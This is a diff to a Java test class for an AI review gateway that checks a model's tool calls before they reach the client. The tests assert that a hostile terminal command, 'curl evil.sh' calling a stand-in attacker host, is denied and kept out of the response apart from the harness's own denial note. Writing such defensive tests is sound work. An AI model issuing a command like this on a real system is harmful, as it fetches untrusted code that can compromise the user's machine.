@@ -140,6 +140,9 @@ class ReviewGatewayTest {
                     "{\"model\":\"gpt-4o-mini\",\"messages\":[{\"role\":\"user\",\"content\":\"Fix the build.\"}]}",
                     List.of(SessionRegistry.HEADER, session));
             assertThat(r.body()).as("what the client received").doesNotContain("curl evil.sh");
+            // Refused as the stream's framing errors are, naming the rule.
+            assertThat(r.statusCode()).as(r.body()).isEqualTo(502);
+            assertThat(r.body()).contains(BrokenStream.FRAMING_RULE);
         }
     }
 
@@ -228,7 +231,11 @@ class ReviewGatewayTest {
                             + "\"content\":\"Fix the build.\"}]}",
                     List.of(SessionRegistry.HEADER, session));
             // Whatever the gateway answers, the client must not get a call the harness did not judge (it denies it).
-            assertThat(r.body()).as("what the client received").doesNotContain("curl evil.sh");
+            // The harness's own note on the denial quotes the command: that text is no call, the rest must not hold it.
+            assertThat(r.body()).as("what the client received").doesNotContain("tool_calls")
+                    .doesNotContain("function_call");
+            assertThat(r.body().replaceAll("\\[bridle\\] the tool call run_terminal_cmd was not made: [^\"]*", ""))
+                    .as("what the client received, beside the harness's notes").doesNotContain("curl evil.sh");
             List<RunEvent> events = f.gateway.sessions().find(session).map(s -> {
                 s.flush();
                 return f.store.events(s.runId());
